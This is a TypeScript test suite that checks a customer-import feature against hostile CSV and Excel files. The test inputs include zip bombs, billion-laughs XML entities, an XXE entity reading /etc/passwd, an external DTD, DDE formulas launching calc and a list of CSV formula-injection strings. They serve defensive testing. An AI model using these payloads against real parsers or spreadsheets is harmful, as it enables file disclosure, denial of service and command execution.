import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import iconv from 'iconv-lite'
import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { csvLine, guard, unguard } from '../src/customers/import/formula-guard.ts'
import {
  createUnit,
  type ImportOptions,
  importCustomers,
  listImports,
  listRejects,
  rejectsCsv,
  rows,
  systemActor,
} from '../src/index.ts'
import { createTestEngine, type TestEngine } from '../testing/index.ts'
import { textRow, workbook, workbookParts, zip } from './import-workbook.ts'
import { pieces } from './pieces.ts'

let engine: TestEngine
let unitId: number
beforeAll(async () => {
  engine = await createTestEngine()
  const city = { parentId: null, kind: 'city', code: 'CITY', name: 'City' } as const
  unitId = (await engine.asSystem((ctx) => createUnit(ctx, city))).id
})
afterAll(() => engine.dispose())

const load = (content: Buffer | string, options: ImportOptions = {}) =>
  importCustomers(engine, systemActor, { unitId, fileName: 'hostile', content: pieces(content, 64 * 1024), options })
const reasons = async (importId: number) =>
  (await engine.asSystem((ctx) => listRejects(ctx, { importId }))).items.map(
    ({ rowNumber, reason }) => `${rowNumber}: ${reason}`,
  )
const names = (prefix: string) =>
  engine
    .asSystem((ctx) =>
      rows<{ name: string }>(ctx, sql`select name from customer where ref like ${`${prefix}%`} order by ref`),
    )
    .then((found) => found.map(({ name }) => name))
const refusal = async (content: Buffer | string, options: ImportOptions = {}) => {
  const runs = () => engine.asSystem((ctx) => listImports(ctx, { limit: 200 }))
  const before = await runs()
  const error = await load(content, options).then(
    () => null,
    (error: Error & { code?: string }) => error,
  )
  expect(await runs()).toEqual(before)
  expect(error?.code).toBe('bad-input')
  return error?.message
}

describe('text that is cut within a character', () => {
  const said = (encoding: string) =>
    `4: Cell 2 contains bytes that are not ${encoding}, as if it were cut off. Save the file as "CSV UTF-8".`
  test.each([
    ['UTF-8', 'utf8', 1],
    ['UTF-8', 'utf8', 2],
    ['GB18030', 'gb18030', 1],
    ['UTF-16', 'utf-16le', 1],
    ['UTF-16', 'utf-16be', 3],
  ])('in %s costs the last row, with a sentence', async (name, encoding, cut) => {
    const prefix = `T${encoding}${cut}-`
    const text = `客户号,姓名\n${prefix}1,王芳\n${prefix}2,李雷\n${prefix}3,韩梅梅`
    const bytes = iconv.encode(text, encoding, { addBOM: encoding.startsWith('utf-16') })
    const run = await load(bytes.subarray(0, -cut))
    expect(run).toMatchObject({ read: 3, inserted: 2, rejected: 1 })
    expect(await reasons(run.id)).toEqual([said(name)])
    expect(await names(prefix)).toEqual(['王芳', '李雷'])
  })

  test('and holds no other one: it is not taken for an encoding in which the piece means something', async () => {
    const run = await load(Buffer.from('ref,name\nU1,a\nU2,b\nU3,张').subarray(0, -1))
    expect(await reasons(run.id)).toEqual([said('UTF-8')])
  })
})

describe('width', () => {
  const wide = (width: number) =>
    `${['ref', 'name', ...Array.from({ length: width - 2 }, (_, i) => `c${i}`)].join(',')}\nW${width},wide${',x'.repeat(width - 2)}\n`
  test('of 300 columns works, and of 1,000', async () => {
    expect(await load(wide(300))).toMatchObject({ inserted: 1 })
    expect(await load(wide(1_000))).toMatchObject({ inserted: 1 })
    const mapping = Array.from({ length: 300 }, (_, i) => ({
      column: ['ref', 'name'][i] ?? `c${i - 2}`,
      field: `f${i}`,
    }))
    expect(await refusal(wide(300), { mapping })).toMatch(/There is no field "f0"/)
  })

  test('of 1,001 columns is refused, in a workbook too', async () => {
    const said =
      'The first line is not the header of a table: it should have the names of at most 1,000 columns. Save the file as "CSV UTF-8" and import that.'
    expect(await refusal(wide(1_001))).toBe(said)
    const header = textRow(1, ...Array.from({ length: 1_001 }, (_, i) => `c${i}`))
    expect(await refusal(workbook({ S: header }))).toBe(said)
  })

  test('of a sheet with a cell far out costs that row', async () => {
    const far = '<row r="3"><c r="A3" t="inlineStr"><is><t>F2</t></is></c><c r="XFD3"><v>1</v></c></row>'
    const run = await load(workbook({ S: textRow(1, 'ref', 'name') + textRow(2, 'F1', 'near') + far }))
    expect(run).toMatchObject({ inserted: 1, rejected: 1 })
    expect(await reasons(run.id)).toEqual(['3: The row has 1001 cells, but the header has 2 columns.'])
  })
})

test('NUL bytes in a cell go, in the header they refuse the file', async () => {
  expect(await load('ref,name\nNUL1,a\0b\n')).toMatchObject({ inserted: 1 })
  expect(await names('NUL')).toEqual(['ab'])
  expect(await refusal('ref,na\0me\nNUL2,a\n')).toMatch(/not the header of a table/)
  expect(await refusal(Buffer.alloc(10_000))).toMatch(/not the header of a table/)
})

describe('a workbook that', () => {
  const parts = workbookParts({ S: textRow(1, 'ref', 'name') + textRow(2, 'Z1', 'a') })
  const sheet = 'xl/worksheets/sheet1.xml'
  const strings = 'xl/sharedStrings.xml'
  const filler = (text: string, megabytes: number) => Buffer.alloc(megabytes * 1024 ** 2, text)
  const wrapped = (before: string, inner: Buffer) => Buffer.concat([Buffer.from(before), inner])
  const directoryOf = (file: Buffer) => file.lastIndexOf('504b0102', undefined, 'hex')
  const entities = (count: number) =>
    `<!DOCTYPE x [${Array.from({ length: count }, (_, i) => `<!ENTITY e${i} "${i === 0 ? 'lol' : `&e${i - 1};`.repeat(10)}">`).join('')}]>`
  test.each<[string, () => Buffer, RegExp]>([
    ['holds another archive in its place', () => zip({ ...parts, [sheet]: zip({ bomb: filler('0', 1) }) }), /damaged/],
    [
      'is an archive of workbooks',
      () => zip({ 'a.xlsx': zip(parts), 'b.xlsx': zip(parts) }),
      /an archive, but no Excel workbook/,
    ],
    [
      'unpacks to a huge sheet',
      () => zip({ ...parts, [sheet]: wrapped('<worksheet><sheetData>', filler('<x/>', 40)) }),
      /unpacks to more than can be right/,
    ],
    [
      'unpacks to huge shared strings',
      () => zip({ ...parts, [strings]: wrapped('<sst>', filler('<si><t>x</t></si>', 40)) }),
      /unpacks to more than can be right/,
    ],
    [
      'has a huge list of styles',
      () => zip({ ...parts, 'xl/styles.xml': wrapped('<styleSheet><cellXfs>', filler('<xf/>', 20)) }),
      /unpacks to more than can be right/,
    ],
    [
      'has a huge list of sheets',
      () => zip({ ...parts, 'xl/workbook.xml': wrapped('<workbook><sheets>', filler('<sheet name="a"/>', 20)) }),
      /unpacks to more than can be right/,
    ],
    [
      'nests elements without end',
      () => zip({ ...parts, [sheet]: wrapped('<worksheet>', filler('<a>', 1)) }),
      /damaged/,
    ],
    [
      'has 200,000 entries',
      () =>
        zip({
          ...parts,
          ...Object.fromEntries(Array.from({ length: 60_000 }, (_, i) => [`xl/media/${'x'.repeat(30)}${i}`, ''])),
        }),
      /damaged/,
    ],
    [
      'declares entities',
      () => zip({ ...parts, [sheet]: `${entities(9)}<worksheet><sheetData>${textRow(1, '&e8;')}` }),
      /damaged/,
    ],
    [
      'declares entities of a file',
      () =>
        zip({
          ...parts,
          [sheet]: `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet><sheetData>${textRow(1, 'ref', '&e;')}`,
        }),
      /damaged/,
    ],
    [
      'has a document type, even an idle one',
      () => zip({ ...parts, [strings]: '<!DOCTYPE sst SYSTEM "http://127.0.0.1:1/x.dtd"><sst></sst>' }),
      /damaged/,
    ],
    [
      'says that a part lies beyond the file',
      () => {
        const file = zip({ '_rels/.rels': parts['_rels/.rels'] ?? '' })
        file.writeUInt32LE(0x7fffffff, directoryOf(file) + 42)
        return file
      },
      /damaged/,
    ],
    [
      'says that its directory lies elsewhere',
      () => {
        const file = zip(parts)
        file.writeUInt32LE(file.length - 4, file.length - 6)
        return file
      },
      /damaged/,
    ],
  ])('%s is refused', async (_name, file, said) => {
    expect(await refusal(file())).toMatch(said)
  })

  test('lies about the sizes of a part is read as it is', async () => {
    const file = zip(parts)
    file.writeUInt32LE(0x7fffffff, directoryOf(file) + 20)
    file.writeUInt32LE(1, directoryOf(file) + 24)
    expect(await load(file)).toMatchObject({ read: 1 })
  })

  test('breaks off behind its first rows keeps what was read, and says how far that is', async () => {
    const many = Array.from({ length: 30_000 }, (_, i) => textRow(i + 2, `BR${i}`, `客户${i * 7919}`)).join('')
    const xml = `<worksheet><sheetData>${textRow(1, 'ref', 'name')}${many}`
    const run = await load(zip({ ...parts, [sheet]: xml }))
    expect(run).toMatchObject({ state: 'failed', read: run.inserted + run.rejected })
    expect(run.error).toMatch(/damaged or incomplete.*The rows up to line \d+ are dealt with|No row was imported/)
  })

  test('has formulas gives their results, never what they would do', async () => {
    const dde = `<c r="B2" t="str"><f>cmd|'/c calc'!A0</f><v>=cmd|'/c calc'!A0</v></c>`
    const link = `<c r="C2" t="str"><f>HYPERLINK("http://x.example/"&amp;A1)</f><v>wang@example.cn</v></c>`
    const rows =
      textRow(1, 'ref', 'name', 'email') +
      `<row r="2"><c r="A2" t="inlineStr"><is><t>FX1</t></is></c>${dde}${link}</row>`
    expect(await load(workbook({ S: rows }))).toMatchObject({ inserted: 1 })
    expect(await names('FX')).toEqual([`=cmd|'/c calc'!A0`])
  })
})

describe('a file that is handed out', () => {
  const attacks = [
    '=1+1',
    '+1',
    '-1',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
    ' =1',
    '"=1',
    `'=1`,
    `"'=1`,
    `  "=1`,
    `=cmd|'/c calc'!A0`,
    '=HYPERLINK("http://x")',
    'a;=1',
    'a,=1',
    'a\t=1',
    'a|=1',
    'a\n=1',
    'a\r\n=1',
    '";=1',
    'x,"=1"',
    ';\t|=1',
    `DDE ("cmd";"/C calc")`,
    '+8613800138000',
    '-',
    '=',
    "''=1",
  ]
  /** What some spreadsheet might take for a cell of its own, whichever delimiter it goes by. */
  const everyCell = (cell: string) => [cell, ...cell.split(/[,;\t|\r\n]/)]
  const isHarmless = (cell: string) => everyCell(cell).every((part) => !/^[\s"]*[=+\-@＝＋－＠]/.test(part))

  test('runs in no spreadsheet, by whichever delimiter that goes, and comes back exactly', () => {
    for (const attack of attacks) {
      expect(isHarmless(guard(attack)), JSON.stringify(guard(attack))).toBe(true)
      expect(guard(attack)).not.toMatch(/^[\t\r\n]/)
      expect(unguard(guard(attack))).toBe(attack)
    }
    const text = fc.string({ unit: fc.constantFrom(...`='"+-@,;|\t\r\n ＝a1`), maxLength: 12 })
    fc.assert(
      fc.property(text, (cell) => {
        expect(unguard(guard(cell))).toBe(cell)
        expect(isHarmless(guard(cell))).toBe(true)
      }),
      { numRuns: 5_000 },
    )
  })

  test('also as a whole: columns, cells and reasons of rejected rows', async () => {
    const header = ['ref', 'name', 'email', '=HYPERLINK("http://x")', '@evil;=1']
    const lines = attacks.map((attack, i) => csvLine([`A${i}`, attack, 'nowhere', attack, attack], ','))
    const run = await load(csvLine(header, ',') + lines.join(''))
    expect(run).toMatchObject({ read: attacks.length, rejected: attacks.length })
    const file = await engine.asSystem(async (ctx) => {
      let text = ''
      for await (const piece of rejectsCsv(ctx, { importId: run.id })) text += piece
      return text
    })
    const handed = parse(file, { bom: true }) as string[][]
    for (const cell of handed.flat()) expect(isHarmless(cell), JSON.stringify(cell)).toBe(true)
    expect(await load(file.replaceAll('nowhere', ''))).toMatchObject({
      read: attacks.length,
      rejected: 0,
      inserted: attacks.length,
    })
  })
})

describe('memory stays bounded', () => {
  /** Opens what `make` yields in a process of its own, with little memory. Returns the sentence and its peak in MB. */
  async function inLittleMemory(make: string): Promise<{ said: string; peak: number }> {
    const script = `
      import { readFileSync } from 'node:fs'
      import { previewFile } from '${import.meta.resolve('../src/customers/import/preview-file.ts')}'
      import { openFile } from '${import.meta.resolve('../src/customers/import/open-file.ts')}'
      async function* content() { ${make} }
      let said = ''
      try {
        const file = await openFile(content(), {})
        file.need?.([0, 1])
        let read = 0, problem = ''
        for await (const rows of file.rows) for (const row of rows) { read += 1; problem ||= row.problem ?? '' }
        said = read + ' rows ' + problem
      } catch (error) { said = error.message }
      // Not maxRSS, which begins with what the parent had.
      const [, kilobytes] = /VmHWM:\\s+(\\d+)/.exec(readFileSync('/proc/self/status', 'utf8'))
      console.log(JSON.stringify({ said, peak: kilobytes / 1024 }))`
    const child = spawn(process.execPath, ['--max-old-space-size=160', '--input-type=module', '-e', script])
    let out = ''
    let err = ''
    child.stdout.on('data', (piece) => {
      out += piece
    })
    child.stderr.on('data', (piece) => {
      err += piece
    })
    const [code] = await once(child, 'close')
    expect(code, err.slice(0, 2_000)).toBe(0)
    return JSON.parse(out)
  }
  const megabyte = `const megabyte = Buffer.alloc(1024 * 1024, 'x');`
  const many = (body: string, count = 100) => `for (let i = 0; i < ${count}; i += 1) ${body};`
  /** A zip with one part of `unit` over and over, about 300 MB long, that does not shrink too well to be believed. */
  const packed = (name: string, before: string, unit: string) => {
    return `
      const { zip, workbookParts } = await import('${import.meta.resolve('./import-workbook.ts')}')
      const parts = workbookParts({ S: '' })
      const unit = ${JSON.stringify(unit)}
      let text = ${JSON.stringify(before)}
      const list = []
      for (let i = 0; i < 150_000; i += 1) list.push(unit.replaceAll('#', (Math.imul(i, 2654435761) >>> 0).toString(36)))
      parts['${name}'] = Buffer.from(text + list.join(''))
      list.length = 0
      const file = zip(parts)
      parts['${name}'] = ''
      for (let at = 0; at < file.length; at += 65536) yield file.subarray(at, at + 65536)`
  }

  test.each<[string, string, RegExp]>([
    [
      'a line of 100 MB as the header',
      `${megabyte} ${many('yield megabyte')}`,
      /^The header \(line 1\) cannot be read\. The row has no end\.$/,
    ],
    [
      'a line of 100 MB further down',
      `${megabyte} yield Buffer.from('ref,name\\n1,a\\n2,'); ${many('yield megabyte')} yield Buffer.from('\\n3,c\\n')`,
      /^3 rows The row has no end\.$/,
    ],
    [
      'a quote of 100 MB that is never closed',
      `${megabyte} yield Buffer.from('ref,name\\n1,a\\n2,"'); ${many('yield megabyte')}`,
      /^2 rows A quote is opened and never closed\.$/,
    ],
    [
      '100 MB of NUL',
      `const zero = Buffer.alloc(1024 * 1024); ${many('yield zero')}`,
      /not the header of a table|cannot be read/,
    ],
    [
      '100 MB of line ends',
      `const ends = Buffer.alloc(1024 * 1024, '\\n'); yield Buffer.from('ref,name\\n'); ${many('yield ends')}`,
      /^0 rows/,
    ],
    [
      '100 MB of delimiters',
      `const commas = Buffer.alloc(1024 * 1024, ','); yield Buffer.from('ref,name\\n'); ${many('yield commas')}`,
      /^1 rows The row has no end/,
    ],
    [
      'a shared string in pieces without end',
      packed('xl/sharedStrings.xml', '<sst><si>', '<r><t># # # #</t></r>'),
      /damaged|more text than can be read/,
    ],
    [
      'a sheet with a cell far out in every row',
      packed(
        'xl/worksheets/sheet1.xml',
        '<worksheet><sheetData><row><c t="inlineStr"><is><t>ref</t></is></c></row>',
        '<row><c r="A"><v>1</v></c><c r="XFD1"><v>#</v></c></row>',
      ),
      /damaged|rows The row has 1001 cells/,
    ],
  ])('%s', async (_name, make, said) => {
    const found = await inLittleMemory(make)
    expect(found.said).toMatch(said)
    expect(found.peak).toBeLessThan(400)
  })
})
